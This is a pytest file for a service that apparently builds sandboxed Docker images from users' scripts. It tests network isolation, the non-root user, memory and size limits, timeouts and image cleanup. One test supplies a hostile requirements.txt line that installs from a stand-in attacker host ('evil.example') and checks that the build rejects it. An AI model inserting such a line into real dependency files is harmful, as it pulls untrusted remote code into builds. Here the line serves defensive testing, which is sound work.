"""Building for real, on an engine of the tests' own."""

from collections.abc import AsyncIterator
from typing import Any

import pytest

from stationmaster.db.engine import Database
from stationmaster.domains.scripts.builds.builder import MOST_LINES, Builder, Transcript
from stationmaster.domains.scripts.models import Status
from stationmaster.outbound.docker.engine import Engine, open_engine
from stationmaster.setting_groups import BuildSettings
from tests.domains.scripts.builds.stock import HELLO, LEASE, Stock, make_stock
from tests.support.docker import IMAGE, NEEDS_DOCKER, DockerServer

pytestmark = [NEEDS_DOCKER, pytest.mark.timeout(120)]


@pytest.fixture
async def engine(docker_server: DockerServer) -> AsyncIterator[Engine]:
    async with open_engine(docker_server.url) as opened:
        yield opened


def builder(database: Database, engine: Engine, **settings: Any) -> Builder:
    chosen = BuildSettings(**{"base_image": IMAGE, "network": "none", "allow_dockerfile": True, **settings})
    return Builder(database, engine, chosen, "tests", 65534, LEASE)


async def built(database: Database, engine: Engine, files: dict[str, bytes], **settings: Any) -> Stock:
    stock = await make_stock(database, files)
    assert await builder(database, engine, **settings).build_next()
    return stock


def dockerfile(*steps: str) -> dict[str, bytes]:
    return {**HELLO, "Dockerfile": "\n".join([f"FROM {IMAGE}", *steps]).encode()}


async def test_an_image_is_built_that_runs_the_script(
    database: Database, engine: Engine, docker_server: DockerServer
) -> None:
    stock = await built(database, engine, HELLO)
    version = await stock.version()
    ran = docker_server.call("run", "--rm", "--network=none", str(version.image), "wor; ld").stdout

    assert (Status.SUCCESS, 1) == (version.status, (await stock.script()).current_version)
    assert str(version.image).startswith("sha256:")
    assert b"hello wor; ld\n" == ran
    assert any(line.startswith("Step 1/") for line in await stock.log())


async def test_the_program_is_not_root_and_its_files_are_not_its_own(
    database: Database, engine: Engine, docker_server: DockerServer
) -> None:
    stock = await built(database, engine, {"main.sh": b"id -u; touch /script/x || echo refused\n"})
    ran = docker_server.call("run", "--rm", "--network=none", str((await stock.version()).image)).stdout

    assert b"65534\nrefused\n" == ran


async def test_a_step_that_fails_is_told_with_its_output(database: Database, engine: Engine) -> None:
    stock = await built(database, engine, dockerfile("RUN echo about to fail; exit 7"))
    version = await stock.version()

    assert (Status.FAILED, None) == (version.status, version.image)
    assert "returned a non-zero code: 7" in str(version.error)
    assert "about to fail" in await stock.log()


async def test_a_build_that_takes_too_long_fails(database: Database, engine: Engine) -> None:
    stock = await built(database, engine, dockerfile("RUN sleep 60"), timeout=2)

    assert "longer than 2 seconds" in str((await stock.version()).error)


async def test_an_image_that_is_too_large_fails_and_is_removed(
    database: Database, engine: Engine, docker_server: DockerServer
) -> None:
    stock = await built(database, engine, dockerfile("RUN dd if=/dev/zero of=/big bs=1M count=20"), max_image_mb=10)

    assert "10 MiB are the most" in str((await stock.version()).error)
    assert stock.script_id.hex not in docker_server.call("images").stdout.decode()


async def test_a_step_has_no_network_and_no_more_memory_than_it_may(database: Database, engine: Engine) -> None:
    steps = ("RUN ! ip route | grep -q .", "RUN ! dd if=/dev/zero of=/dev/null bs=300M count=1")
    stock = await built(database, engine, dockerfile(*steps), memory_mb=64)

    assert Status.SUCCESS is (await stock.version()).status, (await stock.version()).error


async def test_an_own_dockerfile_without_leave_fails(database: Database, engine: Engine) -> None:
    stock = await built(database, engine, dockerfile(), allow_dockerfile=False)

    assert "ALLOW_DOCKERFILE" in str((await stock.version()).error)


async def test_hostile_requirements_fail_before_anything_runs(database: Database, engine: Engine) -> None:
    stock = await built(database, engine, {**HELLO, "requirements.txt": b"-e git+https://evil.example/x\n"})

    assert "Line 1 of requirements.txt" in str((await stock.version()).error)
    assert not any(line.startswith("Step") for line in await stock.log())


async def test_an_engine_that_is_away_is_waited_for(database: Database, docker_server: DockerServer) -> None:
    stock = await make_stock(database, HELLO)
    async with open_engine(f"{docker_server.url}.not") as away:
        assert await builder(database, away).build_next()
        assert not await builder(database, away).build_next()

    assert Status.BUILDING is (await stock.version()).status
    assert any("went away" in line for line in await stock.log())


async def test_the_image_of_a_script_that_is_deleted_goes_and_the_others_stay(
    database: Database, engine: Engine
) -> None:
    kept = await built(database, engine, HELLO)
    gone = await built(database, engine, {"main.sh": b"another\n"})
    images = [str((await each.version()).image) for each in (kept, gone)]
    await gone.delete()
    await builder(database, engine).sweep()

    assert [True, False] == [await engine.find_image(image) is not None for image in images]


def test_a_log_without_end_is_cut() -> None:
    transcript = Transcript()
    for number in range(MOST_LINES + 100):
        transcript.add(f"{number}\0")

    assert (MOST_LINES + 1, "0", "The rest of the log is left out.") == (
        len(transcript.waiting),
        transcript.waiting[0],
        transcript.take()[-1],
    )
